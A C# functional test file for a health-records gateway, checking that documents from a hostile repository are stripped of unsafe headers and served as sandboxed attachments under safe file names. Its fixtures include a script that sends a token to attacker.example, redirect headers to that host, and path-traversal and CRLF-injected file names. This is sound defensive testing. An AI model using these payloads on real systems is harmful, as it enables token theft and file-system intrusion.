using System.Net;
using System.Text;
using NcrsGateway.Tests.Common;
using WireMock.RequestBuilders;
using WireMock.ResponseBuilders;
using WireMock.Server;

namespace NcrsGateway.FunctionalTests.RecordLocation;

/// <summary>
/// What a caller receives with a document from a hostile repository: only the allow-listed repository headers,
/// always an attachment under a safe file name, never sniffed, sandboxed, never stored, and HTML never rendered.
/// </summary>
public sealed class BinaryResponseHeaderTests : IAsyncLifetime
{
    private const string PointerId = "RA901-0c4d2b1e-9f8a-4b7c-a6d5-e4f3a2b1c0d9";
    private static readonly byte[] Pdf = Encoding.ASCII.GetBytes("%PDF-1.7 hostile repository test document");
    private readonly NrlUpstream _nrl = new();
    private readonly WireMockServer _repository = WireMockServer.Start();
    private GatewayHost _host = null!;

    /// <summary>
    /// Headers a repository (or its load balancer) may send that must never reach a caller. (<c>Server</c> is
    /// checked by value: the gateway's own server header is another item's business.)
    /// </summary>
    private static readonly string[] HostileHeaders =
    [
        "Access-Control-Allow-Origin", "Access-Control-Allow-Credentials", "Access-Control-Expose-Headers", "Via",
        "X-Internal-Host", "X-Backend-Server", "WWW-Authenticate", "X-Powered-By", "Set-Cookie", "Refresh",
        "Link", "Location", "Content-Location", "Alt-Svc", "Strict-Transport-Security", "X-Frame-Options", "Age",
    ];

    public async Task InitializeAsync()
    {
        var settings = _nrl.Settings();
        settings["Documents:AllowedHosts:0"] = new Uri(_repository.Url!).Authority;
        settings["Documents:AllowHttp"] = "true";
        _host = await GatewayHost.StartAsync(settings);
    }

    public async Task DisposeAsync()
    {
        await _host.DisposeAsync();
        _nrl.Dispose();
        _repository.Stop();
    }

    [Fact]
    public async Task Download_RepositorySendsHostileHeaders_NoneReachesTheCaller()
    {
        Repository(Hostile(Response.Create().WithStatusCode(200).WithHeader("Content-Type", "application/pdf").WithBody(Pdf)));

        using var response = await Download();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(Pdf, await response.Content.ReadAsByteArrayAsync());
        var names = HeaderNames(response).ToHashSet(StringComparer.OrdinalIgnoreCase);
        Assert.All(HostileHeaders, header => Assert.DoesNotContain(header, names));
        Assert.DoesNotContain(AllValues(response), v => v.Contains("repo-db-07", StringComparison.Ordinal) || v.Contains("10.1.2.3", StringComparison.Ordinal) || v.Contains("Apache", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Download_RepositorySendsValidatorsAndLanguage_ThoseAreKeptAndTheGatewaysOwnPolicyReplacesTheRest()
    {
        Repository(Hostile(Response.Create().WithStatusCode(200).WithHeader("Content-Type", "application/pdf").WithBody(Pdf)));

        using var response = await Download();

        Assert.Equal("\"v7\"", response.Headers.ETag?.Tag);
        Assert.Equal(new DateTimeOffset(2025, 3, 12, 10, 0, 0, TimeSpan.Zero), response.Content.Headers.LastModified);
        Assert.Equal("en-GB", Assert.Single(response.Content.Headers.ContentLanguage));
        Assert.Equal(Pdf.Length, response.Content.Headers.ContentLength);
        Assert.Equal("application/pdf", response.Content.Headers.ContentType?.MediaType);
        AssertGatewayPolicy(response);
        Assert.False(response.Headers.CacheControl!.Public);
        Assert.Null(response.Headers.CacheControl.MaxAge);
    }

    [Fact]
    public async Task Download_RepositoryServesHtmlInline_IsAnOctetStreamAttachmentInASandbox()
    {
        const string html = "<html><body><script>fetch('https://attacker.example/?t='+localStorage.token)</script></body></html>";
        Repository(Hostile(Response.Create().WithStatusCode(200)
            .WithHeader("Content-Type", "text/html; charset=utf-8")
            .WithHeader("Content-Disposition", "inline")
            .WithBody(html)));

        using var response = await Download();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/octet-stream", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal(html, await response.Content.ReadAsStringAsync());
        AssertGatewayPolicy(response);
        Assert.EndsWith(".html", response.Content.Headers.ContentDisposition!.FileNameStar, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(null, "application/pdf", PointerId + ".pdf")]
    [InlineData("attachment; filename=\"../../etc/cron.d/discharge summary;.exe\"", "application/pdf", "discharge summary.pdf")]
    [InlineData("inline; filename=\"C:\\\\Windows\\\\System32\\\\letter.html\"", "application/pdf", "letter.pdf")]
    [InlineData("attachment; filename*=UTF-8''..%2F..%2Fsecret%0D%0A%22plan%22.html", "application/pdf", "secretplan.pdf")]
    [InlineData("attachment; filename*=UTF-8''Lettre%20de%20sortie%20%C3%A9t%C3%A9.pdf", "application/pdf", "Lettre de sortie été.pdf")]
    [InlineData("attachment; filename=\"....\"", "text/plain", PointerId + ".txt")]
    public async Task Download_RepositoryFileName_IsOfferedAsABaseNameWithTheExtensionOfItsContentType(string? disposition, string contentType, string expected)
    {
        var upstream = Response.Create().WithStatusCode(200).WithHeader("Content-Type", contentType).WithBody(Pdf);
        Repository(disposition is null ? upstream : upstream.WithHeader("Content-Disposition", disposition));

        using var response = await Download();

        var header = string.Join(", ", response.Content.Headers.GetValues("Content-Disposition"));
        Assert.StartsWith("attachment;", header, StringComparison.Ordinal);
        Assert.Equal(expected, response.Content.Headers.ContentDisposition!.FileNameStar);
        Assert.Equal(expected.Replace('é', '_'), response.Content.Headers.ContentDisposition.FileName!.Trim('"'));
        Assert.DoesNotContain(header, c => c is '/' or '\\' || char.IsControl(c));
    }

    private static IResponseBuilder Hostile(IResponseBuilder response) => response
        .WithHeader("Access-Control-Allow-Origin", "*")
        .WithHeader("Access-Control-Allow-Credentials", "true")
        .WithHeader("Access-Control-Expose-Headers", "*")
        .WithHeader("Via", "1.1 repo-db-07.internal")
        .WithHeader("X-Internal-Host", "repo-db-07.trust.internal")
        .WithHeader("X-Backend-Server", "10.1.2.3:8443")
        .WithHeader("WWW-Authenticate", "Basic realm=\"repo-db-07\"")
        .WithHeader("Server", "Apache/2.2.3 (repo-db-07)")
        .WithHeader("X-Powered-By", "PHP/5.2")
        .WithHeader("Set-Cookie", "JSESSIONID=repo-db-07; Path=/")
        .WithHeader("Refresh", "0; url=https://attacker.example/")
        .WithHeader("Link", "<https://attacker.example/x.css>; rel=stylesheet")
        .WithHeader("Location", "https://attacker.example/")
        .WithHeader("Content-Location", "https://repo-db-07.internal/records/9434765919.pdf")
        .WithHeader("Alt-Svc", "h3=\":443\"")
        .WithHeader("Strict-Transport-Security", "max-age=0")
        .WithHeader("X-Frame-Options", "ALLOWALL")
        .WithHeader("Age", "600")
        .WithHeader("Cache-Control", "public, max-age=86400")
        .WithHeader("Content-Security-Policy", "default-src *")
        .WithHeader("ETag", "\"v7\"")
        .WithHeader("Last-Modified", "Wed, 12 Mar 2025 10:00:00 GMT")
        .WithHeader("Content-Language", "en-GB");

    private static void AssertGatewayPolicy(HttpResponseMessage response)
    {
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal("sandbox; default-src 'none'", Assert.Single(response.Headers.GetValues("Content-Security-Policy")));
        Assert.True(response.Headers.CacheControl?.NoStore);
    }

    private static IEnumerable<string> HeaderNames(HttpResponseMessage response) =>
        response.Headers.Select(h => h.Key).Concat(response.Content.Headers.Select(h => h.Key));

    private static IEnumerable<string> AllValues(HttpResponseMessage response) =>
        response.Headers.Concat(response.Content.Headers).SelectMany(h => h.Value);

    private void Repository(IResponseBuilder response)
    {
        _nrl.Server.Given(_nrl.ReadOf(PointerId)).RespondWith(NrlUpstream.Fhir(NrlUpstream.Pointer(PointerId, "9434765919", _repository.Url + "/records/plan.pdf")));
        _repository.Given(Request.Create().WithPath("/records/plan.pdf").UsingGet()).RespondWith(response);
    }

    private Task<HttpResponseMessage> Download() => _host.CreateClinicianClient().GetAsync($"fhir/Binary/{PointerId}");
}
